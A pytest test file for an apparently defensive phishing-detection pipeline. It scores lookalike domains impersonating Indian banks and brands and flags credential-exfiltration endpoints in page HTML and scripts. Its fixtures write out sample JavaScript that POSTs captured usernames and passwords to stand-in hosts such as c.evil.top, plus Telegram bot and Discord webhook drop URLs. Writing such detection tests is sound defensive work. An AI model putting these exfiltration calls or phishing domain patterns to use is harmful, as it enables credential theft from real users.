"""Triage by known names, with a dictionary and suffix rules of its own."""

import pytest
from pyspark.sql import functions as F

from certloom.operators import exfil, triage as T

TOKENS = [("sbi", "State Bank"), ("onlinesbi", "State Bank"), ("hdfcbank", "HDFC"), ("airtel", "Airtel"), ("flipkart", "Flipkart"), ("vi", "Vi"), ("groww", "Groww"), ("idfcbank", "IDFC"), ("icicibank", "ICICI")]
RULES = [("com", "exact"), ("top", "exact"), ("in", "exact"), ("co.in", "exact"), ("today", "exact"), ("github.io", "exact"), ("io", "exact"), ("ck", "wildcard"), ("www.ck", "exception"), ("sbi", "exact")]
WANT = {  # name: (score, features, brand)
    "www.sbi.co.in": (0, "allowlisted", None),
    "portal.anything.sbi": (0, "allowlisted", None),
    "github.io": (0, "public_suffix", None),
    "login.sbi.co.in.attacker.top": (0.65, "brand_token_exact,keyword_count,tld_risk", "State Bank"),
    "ѕbі-kyc-verify.top": (1.0, "skeleton_exact,keyword_count,tld_risk,cap", "State Bank"),
    "a1rtel-kyc-update.top": (1.0, "skeleton_exact,keyword_count,tld_risk,cap", "Airtel"),
    "service-login.top": (0.30, "keyword_count,tld_risk", None),
    "vi-recharge-kyc.top": (0.65, "brand_token_exact,keyword_count,tld_risk", "Vi"),
    "sbx-portal.top": (0.15, "tld_risk", None),
    "flipkrat-sale.top": (0.45, "lookalike,tld_risk", "Flipkart"),
    "bi.1xbet-onlines.top": (0.15, "tld_risk", None),
    "koersgenootnl.stelvio.growww.today": (0.35, "brand_token_exact", "Groww"),
    "growww-kyc.top": (0.65, "brand_token_exact,keyword_count,tld_risk", "Groww"),
    "sbi1.example.com": (0.35, "brand_token_exact", "State Bank"),
    "hdfcbnak-a-b-c-d.com": (0.40, "lookalike,shape", "HDFC"),
    "xn--invalid--.com": (0.1, "shape", None),
}


@pytest.fixture(scope="module")
def result(spark):
    rules = spark.createDataFrame(RULES, "suffix string, kind string")
    names = spark.createDataFrame([(n.upper() + ".",) for n in WANT], "raw string").select(T.decoded(F.col("raw")).alias("name")).withColumn("issuer", F.lit("Let's Encrypt R3")).withColumn("san_count", F.lit(2))
    allowed = T.allowlist(spark.createDataFrame([("github.io",), ("shop.allowed.com",)], "name string"), spark.createDataFrame([("www.sbi.co.in",)], "name string"), rules)
    assert sorted(r.etld1 for r in allowed.collect()) == ["allowed.com", "sbi.co.in"]
    f = T.features(T.with_suffix(names, rules), T.Dictionary(spark.createDataFrame(TOKENS, "token string, brand string")))
    return {r.name: r for r in T.scored(f, allowed, ("sbi",)).select("*", T.ordered(F.col("reasons")).alias("why")).collect()}


def test_scores_reasons_and_brands(result):
    for name, (score, why, brand) in WANT.items():
        r = result[name]
        assert (r.score, r.why) == (score, why), name
        assert abs(sum(x.contribution for x in r.reasons) - r.score) < 1e-9 and r.candidate == (score >= 0.35)
        assert brand is None or r.brand == brand
        assert r.issuer_is_free_ca and r.san_count == 2
    assert result["login.sbi.co.in.attacker.top"].etld1 == "attacker.top"


def test_suffix_rules(spark):
    names = spark.createDataFrame([(n,) for n in ("a.b.foo.ck", "foo.ck", "ck", "www.ck", "x.www.ck", "user.github.io", "new.tldx", "tldx")], "name string")
    got = {r.name: (r.suffix, r.etld1, r.known) for r in T.with_suffix(names, spark.createDataFrame(RULES, "suffix string, kind string")).collect()}
    assert got == {"a.b.foo.ck": ("foo.ck", "b.foo.ck", True), "foo.ck": ("foo.ck", "foo.ck", True), "ck": ("ck", "ck", False), "www.ck": ("ck", "www.ck", True), "x.www.ck": ("ck", "www.ck", True), "user.github.io": ("github.io", "user.github.io", True), "new.tldx": ("tldx", "new.tldx", False), "tldx": ("tldx", "tldx", False)}


def test_punycode_and_distance(spark):
    row = spark.createDataFrame([("xn--e1awd7f.top", "ca", "abc", "flipkrat", "flipkart", "abcd", "badc", "xyz")], "p string, a string, b string, c string, d string, e string, f string, g string")
    r = row.select(T.decoded(F.col("p")).alias("p"), *[T.edits(F.col(x), F.col(y)).alias(x + y) for x, y in ("ab", "cd", "ef", "ag", "aa")]).first()
    assert r.p == "еріс.top" or r.p.endswith(".top") and not r.p.startswith("xn--")
    assert (r.ab, r.cd, r.ef, r.ag, r.aa) == (2, 1, 2, 3, 0)


def test_endpoints_need_a_credential_input_and_a_whole_address(spark):
    token = "123456789:" + "A" * 35
    ask, pages = '<input type="password">', {}
    pages["bare"] = ask + '<a href="https://t.me/x">t</a> https://api.telegram.org/bot'
    pages["whole"] = ask + f"https://api.telegram.org/bot{token}/sendMessage"
    pages["parts"] = ask + f'a="https://api.telegram.org/bot";b="{token}";sendPhoto'
    pages["open"] = f"https://api.telegram.org/bot{token}/sendMessage"
    pages["text"] = "enter your password <p>otp</p>" + f"https://api.telegram.org/bot{token}/sendMessage"
    pages["otp"] = '<input placeholder="Enter OTP here">https://formspree.io/f/abc'
    pages["option"] = '<input name="adoption">https://formspree.io/f/abc'
    pages["none"] = None
    df = spark.createDataFrame(list(pages.items()), "page_id string, html string")
    got = {(r.page_id, r.family, r.hit) for r in exfil.endpoints(df).collect()}
    assert got == {("whole", "telegram_bot", f"api.telegram.org/bot{token}/sendMessage"), ("parts", "telegram_bot", token), ("otp", "form_relay", "formspree.io/f/abc")}


def test_calls_that_post():
    at = "https://c.evil.top/a"
    yes = [f'fetch("{at}", {{method: "POST", body: JSON.stringify({{u, p}})}})', f"await fetch ( '{at}' , {{ headers: {{a: 'b', c: f(1, [2])}}, \"method\" : 'post' }} )", f'x.open("POST", "{at}")', f'axios.post(`{at}`, d)', f'$.post("{at}")', f'$.ajax({{url: "{at}", type: "POST", data: d}})', f'$.ajax({{data: {{url: "x"}}, method: "POST", url: "{at}"}})', f'navigator.sendBeacon("{at}", d)']
    for code in yes:
        assert exfil.posted_addresses(f"a(1);{code};b()") == [at], code
    no = [f'fetch("{at}")', f'fetch("{at}", {{method: "GET"}})', f'fetch("{at}", {{body: {{method: "POST"}}}})', 'fetch("/login", {method: "POST"})', f'open("POST", "{at}")', f'store.post("{at}")', f'x.open("GET", "{at}")', f'fetch(u, {{method: "POST"}}); v = "{at}"', 'fetch(', f'$.ajax({{url: u, type: "POST"}}, "{at}")']
    for code in no:
        assert exfil.posted_addresses(code) == [], code


def test_posts_and_endpoints_name_the_script(spark):
    pages = spark.createDataFrame([(1, "https://shop.top/x", '<input type="password">'), (2, "https://shop.top/x", "<p>hi</p>"), (3, "https://shop.top", '<input type=password><script>fetch("https://a.evil.top/1", {method:"POST"})</script>')], "page_id int, url string, html string")
    code = 'fetch("https://panel.collect.top:8443/save",{method:"POST"});$.post("https://www.");axios.post("https://localhost/x");fetch("https://api.shop.top/y",{method:"POST"});$.post("https://a.evil.top/2")'
    scripts = spark.createDataFrame([(k, "https://shop.top/app.js", code + f'"https://canary.discord.com/api/webhooks/{"1" * 18}/abcDEF_ghi-JKL"') for k in (1, 2, 3)], "page_id int, place string, code string")
    rules = spark.createDataFrame([("top", "exact")], "suffix string, kind string")
    got = {tuple(r) for r in exfil.foreign_posts(pages, rules, spark.createDataFrame([], "site string"), scripts=scripts).collect()}
    assert got == {(k, "https://panel.collect.top:8443", "https://panel.collect.top:8443/save", "https://shop.top/app.js") for k in (1, 3)} | {(1, "https://a.evil.top", "https://a.evil.top/2", "https://shop.top/app.js"), (3, "https://a.evil.top", "https://a.evil.top/1", "rendered DOM")}
    ends = {(r.page_id, r.family, r.place) for r in exfil.endpoints(pages, scripts=scripts).collect()}
    assert ends == {(k, "discord_webhook", "https://shop.top/app.js") for k in (1, 3)}


def test_independent_signals(spark):
    cases = [([("a", ["x"]), ("b", ["x"])], 1), ([("a", ["x"]), ("b", ["y"])], 2), ([("a", ["x"]), ("a", ["y"])], 1), ([("a", ["x"]), ("a", ["z"]), ("b", ["x"])], 2), ([("a", ["x", "y"]), ("b", ["y"]), ("c", ["z"])], 2), ([("a", []), ("b", []), ("c", [])], 3), ([], 0)]
    df = spark.createDataFrame([(k, [s for s in own]) for k, (own, _) in enumerate(cases)], "k int, s array<struct<name string, artifacts array<string>>>")
    assert [r.n for r in df.select("k", exfil.independent(F.col("s")).alias("n")).orderBy("k").collect()] == [n for _, n in cases]


def osa(s, t):
    d = {(i, 0): i for i in range(len(s) + 1)} | {(0, j): j for j in range(len(t) + 1)}
    for i in range(1, len(s) + 1):
        for j in range(1, len(t) + 1):
            d[i, j] = min(d[i - 1, j] + 1, d[i, j - 1] + 1, d[i - 1, j - 1] + (s[i - 1] != t[j - 1]))
            if i > 1 and j > 1 and s[i - 1] == t[j - 2] and s[i - 2] == t[j - 1]:
                d[i, j] = min(d[i, j], d[i - 2, j - 2] + 1)
    return d[len(s), len(t)]


@pytest.mark.parametrize("keys", [1_000_000, 0])
def test_index_against_every_token(spark, monkeypatch, keys):
    """Near and contained tokens found by keys are those found by trying every token, with the index broadcast and not."""
    import random
    import re

    monkeypatch.setattr(T, "BROADCAST_KEYS", keys)
    rng = random.Random(8)
    tokens = sorted({"".join(rng.choice("abcde") for _ in range(rng.randrange(2, 11))) for _ in range(150)})
    names = set()
    while len(names) < 300:
        word = list(rng.choice(tokens))
        for _ in range(rng.randrange(3)):
            k = rng.randrange(len(word) + 1)
            word[k : k + rng.randrange(2)] = rng.choice(["", "f", "a", "b"])
            if len(word) > 2 and rng.random() < 0.4:
                k = rng.randrange(len(word) - 1)
                word[k], word[k + 1] = word[k + 1], word[k]
        names.add("".join(word) + rng.choice(["", "-f", "9.fgh", "-" + rng.choice(tokens)]) + ".com")
    names = {n for n in names if not n.startswith((".", "-"))}
    df = spark.createDataFrame([(n, None, 1) for n in names], "name string, issuer string, san_count int")
    rows = T.features(T.with_suffix(df, spark.createDataFrame([("com", "exact")], "suffix string, kind string")), T.Dictionary(spark.createDataFrame([(t, t.upper()) for t in tokens], "token string, brand string"))).collect()
    assert len(rows) == len(names)
    long = re.compile("|".join(sorted((t for t in tokens if len(t) > 3), key=lambda t: (-len(t), t))))
    for r in rows:
        body = r.name[:-4]
        segments = [s for s in re.split("[._-]+", body) if s]
        m = long.search(body)
        short = {x for s in segments for x in (s, s.strip("0123456789"))} & {t for t in tokens if len(t) <= 3}
        assert r.matched == (m[0] if m else min(short, default=None)), r.name
        near = []
        for at, s in enumerate(segments):
            if len(s) >= 4 and not long.search(s):
                for t in tokens:
                    if len(t) >= 5 and 0 < osa(s, t) <= (2 if len(s) >= len(t) >= 8 else 1):
                        near.append((osa(s, t), at, t))
        if r.skeleton_exact is None:
            assert r.lookalike == (min(near)[2] if near else None), r.name
        assert r.brand == ((r.matched or r.skeleton_exact or r.lookalike or r.homoglyph or "").upper() or None)
    assert sum(r.lookalike is not None for r in rows) > 30 and sum(r.matched is not None for r in rows) > 50


def test_two_brands_of_one_token(spark):
    with pytest.raises(ValueError):
        T.Dictionary(spark.createDataFrame([("abc", "A"), ("abc", "B")], "token string, brand string"))
